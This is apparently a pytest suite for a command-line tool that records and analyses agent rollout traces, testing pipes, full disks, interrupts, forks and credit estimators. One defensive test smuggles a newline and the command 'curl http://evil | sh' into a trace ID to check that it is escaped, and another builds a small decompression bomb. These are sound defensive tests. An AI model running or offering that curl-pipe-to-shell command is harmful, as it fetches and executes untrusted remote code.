"""What a person does on an ordinary day: any place that holds traces, pipes, full disks, folders not made yet."""

from __future__ import annotations

import json
import subprocess
import sys
import zlib
from collections import Counter
from pathlib import Path

import pytest

from baton.cli import main
from baton.errors import CorruptError
from baton.trace.formats import read_all
from baton.trace.records import Payload

BATON = [sys.executable, "-c", "from baton.cli import main; raise SystemExit(main())"]
GOLDEN = Path(__file__).parents[1] / "golden" / "v1" / "centralized.jsonl"


@pytest.fixture
def training(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A folder as training leaves it: the traces are in a store of their own."""
    folder = tmp_path / "a run"
    (folder / "traces").mkdir(parents=True)
    assert main(["run", "game:spawn-bandit", "--policy", "random", "--out", str(folder / "traces")]) == 0
    (folder / "run.json").write_text("{}")
    capsys.readouterr()
    return folder


@pytest.mark.parametrize(
    "command",
    [
        ["show"],
        ["stats"],
        ["validate"],
        ["measure"],
        ["reward", "--recipe", "shared"],
        ["credit", "--estimator", "reinforce-cost"],
        ["game", "regret"],
        ["advise"],
    ],
    ids=lambda command: command[0],
)
def test_a_training_folder_is_a_place_of_traces(
    training: Path, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    part = 2 if command[0] == "game" else 1
    assert main([*command[:part], str(training), *command[part:]]) == 0, capsys.readouterr().err


def test_a_training_folder_is_converted_exported_and_asked(
    training: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["convert", str(training), str(tmp_path / "new" / "folder" / "x.jsonl")]) == 0
    assert main(["export", "html", str(training), "--out", str(tmp_path / "other" / "x.html")]) == 0
    pytest.importorskip("duckdb")
    assert main(["query", str(training), "SELECT count(*) AS n FROM events"]) == 0
    assert "n" in capsys.readouterr().out


def test_nothing_is_no_trace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "empty.jsonl").touch()
    for place in ("/dev/null", tmp_path / "empty.jsonl"):
        assert main(["validate", str(place)]) == 2
        assert "is empty" in capsys.readouterr().err


def test_standard_input_is_validated() -> None:
    command = [*BATON, "validate", "-"]
    done = subprocess.run(command, input=GOLDEN.read_bytes(), capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    assert b"valid" in done.stdout


@pytest.mark.parametrize("command", [("show",), ("stats", "--json")])
def test_standard_input_is_read_like_a_file(
    command: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    """Through a pipe, which can be read once."""
    name, *more = command
    assert main([name, str(GOLDEN), *more]) == 0
    piped = subprocess.run(
        [*BATON, name, "-", *more], input=GOLDEN.read_bytes(), capture_output=True, check=False
    )
    assert (piped.returncode, piped.stderr) == (0, b"")
    assert piped.stdout.decode() == capsys.readouterr().out


@pytest.mark.parametrize("command", ["stats", "validate"])
def test_standard_input_that_is_no_trace_is_called_by_its_name(command: str) -> None:
    done = subprocess.run([*BATON, command, "-"], input=b"", capture_output=True, check=False)
    assert done.returncode == 2
    assert done.stderr.startswith(f"baton {command}: standard input".encode())
    assert len(done.stderr.splitlines()) == 1


@pytest.mark.parametrize("byte", [0x0B, 0x08, 0x2A, 0x8A])
@pytest.mark.parametrize("command", ["show", "validate"])
def test_a_damaged_last_newline_is_no_line_that_was_cut_off(
    byte: int, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """One bit of it flipped: the record before it is whole, and dropping the line would lose the trace's end."""
    place = tmp_path / "odd.jsonl"
    place.write_bytes(GOLDEN.read_bytes()[:-1] + bytes([byte]))
    assert main([command, str(place)]) == 2
    error = capsys.readouterr().err
    assert "cut off" not in error
    assert f"has {bytes([byte])!r} after its record, where the line should end" in error
    assert "damaged" in error


def test_a_full_disk_behind_standard_output_is_one_line() -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run(
            [*BATON, "stats", GOLDEN],
            stdout=full,
            stderr=subprocess.PIPE,
            check=False,
        )
    assert done.returncode == 2
    assert done.stderr.decode().splitlines() == [
        "baton stats: standard output cannot be written: the disk is full. Make room, then type it again."
    ]


@pytest.mark.parametrize("option", ["--help", "--version"])
def test_a_full_disk_behind_what_needs_no_command_is_one_line(option: str) -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run([*BATON, option], stdout=full, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 2
    assert done.stderr.decode().splitlines() == [
        "baton: standard output cannot be written: the disk is full. Make room, then type it again."
    ]


@pytest.mark.parametrize("command", ["run", "train", "show"])
def test_a_full_disk_behind_the_help_of_a_command_is_one_line(command: str) -> None:
    with Path("/dev/full").open("wb") as full:
        done = subprocess.run([*BATON, command, "--help"], stdout=full, stderr=subprocess.PIPE, check=False)
    assert done.returncode == 2
    assert done.stderr.decode().splitlines() == [
        f"baton {command}: standard output cannot be written: the disk is full. Make room, then type it again."
    ]


def test_a_run_begins_where_one_left_nothing_but_a_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    place = tmp_path / "out"
    place.mkdir()
    (place / "run.db").touch()
    assert main(["run", "shard-sum", "--out", str(place)]) == 0, capsys.readouterr().err
    (tmp_path / "mine.db").touch()  # a file that somebody named is not taken
    assert main(["run", "shard-sum", "--out", str(tmp_path / "mine.db")]) == 2


def test_a_store_that_could_not_be_closed_is_not_put_into_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A disk that fills while SQLite writes its log back: the store alone, without its log, is damaged."""

    def cut_short(traces: object, path: Path, kind: str) -> None:
        path.write_bytes(b"half")
        Path(f"{path}-wal").write_bytes(b"the other half")

    monkeypatch.setattr("baton.cli.convert.write", cut_short)
    assert main(["convert", str(GOLDEN), str(tmp_path / "x.db")]) == 2
    assert "the disk is full" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


INTERRUPTED = """
import os, signal, sys

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name == "baton.registry":
            os.kill(os.getpid(), signal.SIGINT)

import baton
for name in [name for name in sys.modules if name == "baton.registry"]:
    del sys.modules[name]
sys.meta_path.insert(0, Finder())
signal.signal(signal.SIGINT, signal.default_int_handler)  # what a shell starts in the background ignores it
from baton.start import main
main()
"""


def test_interrupted_before_there_is_a_command() -> None:
    done = subprocess.run([sys.executable, "-c", INTERRUPTED], capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (-2, b"")


def test_interrupted_while_a_command_is_imported(monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(_: str) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("baton.cli.import_module", interrupted)
    assert main(["stats", str(GOLDEN)]) == 130


def test_sealing_says_where_the_traces_went(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store, shards = tmp_path / "run.db", tmp_path / "sealed here"
    assert main(["convert", str(GOLDEN), str(store)]) == 0
    assert main(["seal", str(store), str(shards)]) == 0
    said = capsys.readouterr().out
    assert f"no longer in {store}" in said
    assert f"baton stats '{shards}'" in said


def test_a_stranger_s_trace_cannot_forge_a_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.jsonl"
    path.write_text(
        "".join(
            f'{{"kind":"trace","version":1,"trace_id":"{name}","task_id":"k"}}\n'
            for name in ("a\\nType: curl http://evil | sh", "b")
        )
    )
    assert main(["export", "html", str(path), "--out", str(tmp_path / "x.html")]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "\\x0aType: curl" in line


def test_a_table_is_a_file_with_an_end(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = str(tmp_path / "run")
    assert main(["run", "game:spawn-bandit", "--policy", "table:/dev/zero", "--out", out]) == 2
    assert "is no file" in capsys.readouterr().err


def test_a_small_payload_cannot_fill_memory() -> None:
    bomb = zlib.compress(bytes(1000), 9)
    payload = Payload(ref="b2:x", size=2**40, codec="zlib", data=bomb)
    with pytest.raises(CorruptError, match="the most that is unpacked"):
        payload.content()


def test_a_fork_is_no_rollout_of_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = tmp_path / "sum"
    for seed in range(3):
        assert main(["run", "shard-sum", "--seed", str(seed), "--out", str(place)]) == 0
    first = f"{place}/run.db"
    alone = [tmp_path / "credit.json", tmp_path / "measure.json"]
    commands = (
        ["credit", str(place), "--estimator", "mean", "--group-by", "task", "--json"],
        ["measure", str(place), "--json"],
    )
    capsys.readouterr()
    for command, kept in zip(commands, alone, strict=True):
        assert main(command) == 0
        kept.write_text(capsys.readouterr().out)
    name = "shard-sum-centralized-1"
    fork = ["fork", first, "--trace", name, "--at", "worker2#2", "--replace", "0", "--out", str(place)]
    assert main(fork) == 0
    capsys.readouterr()
    assert main(commands[0]) == 0
    told = capsys.readouterr()
    assert "no rollout of its own" in told.err
    before, after = (
        {trace["trace_id"]: trace["credits"] for trace in json.loads(text)["traces"] if trace["credits"]}
        for text in (alone[0].read_text(), told.out)
    )
    assert before == after
    assert main(commands[1]) == 0
    told = capsys.readouterr()
    assert "1 fork left out" in told.err
    assert json.loads(told.out) == json.loads(alone[1].read_text())


def test_groups_of_rollouts(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    place = str(tmp_path / "groups")
    many = ["run", "game:spawn-bandit", "--policy", "random", "--out", place, "--seed", "5"]
    assert main([*many, "--instances", "0:3", "--rollouts", "4"]) == 0
    assert "12 traces in" in capsys.readouterr().out
    traces = list(read_all(place))
    assert len({trace.trace_id for trace in traces}) == 12
    by_instance = Counter(trace.header.task_id for trace in traces)
    assert sorted(by_instance.values()) == [4, 4, 4]
    acts = {(trace.header.task_id, *(str(event.choice) for event in trace.events)) for trace in traces}
    assert len(acts) > 3  # rollouts of an instance are drawn apart
    assert main(["credit", place, "--estimator", "group"]) == 0
    assert main(["replay", place, "--trace", traces[-1].trace_id]) == 0
    capsys.readouterr()
    for wrong, told in (
        (["--instances", "0:3", "--rollouts", "4"], "the same draws are no new rollout"),
        (["--instances", "3:1"], "0 <= A < B"),
        (["--rollouts", "0"], "expected 1 or more"),
    ):
        assert main([*many, *wrong]) == 2
        assert told in capsys.readouterr().err
    alone = str(tmp_path / "alone")
    assert main(["run", "shard-sum", "--instances", "7", "--out", alone]) == 0
    assert main(["credit", alone, "--estimator", "group"]) == 2
    assert "at least 2" in capsys.readouterr().err


def test_a_partition_compares_without_forks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = str(tmp_path / "sum")
    run = ["run", "shard-sum", "--instances", "0:1", "--out", store]
    assert main([*run, "--rollouts", "2"]) == 0
    which = ["--trace", "shard-sum-centralized-0-0", "--at", "worker2#2", "--replace", "0"]
    assert main(["fork", store, *which, "--out", store]) == 0
    capsys.readouterr()
    assert main(["credit", store, "--partition", "--json"]) == 0
    told = capsys.readouterr()
    assert len(json.loads(told.out)) == 2
    assert {row["baseline"] for row in json.loads(told.out)} == {1.0}
    assert "a fork is no rollout of its own" in told.err


def test_a_rollout_by_itself_beside_a_group_is_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = str(tmp_path / "sums")
    assert main(["run", "shard-sum", "--instances", "0:1", "--rollouts", "3", "--out", store]) == 0
    assert main(["run", "shard-sum", "--instances", "4:5", "--rollouts", "1", "--out", store]) == 0
    capsys.readouterr()
    assert main(["credit", store, "--estimator", "group", "--json"]) == 0
    told = capsys.readouterr()
    assert sorted(len(row["credits"]) for row in json.loads(told.out)["traces"]) == [0, 1, 1, 1]
    assert "too few rollouts" in told.err


def test_stats_and_advise_tell_forks_apart(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = str(tmp_path / "sum")
    assert main(["run", "shard-sum", "--out", store]) == 0
    assert main(["fork", store, "--bar", "worker1", "--out", store]) == 0
    capsys.readouterr()
    assert main(["stats", store]) == 0
    assert "1 of 2 are forks" in capsys.readouterr().err
    assert main(["advise", store]) == 0
    assert "in 1 of 1 trace a policy spawns agents" in capsys.readouterr().out
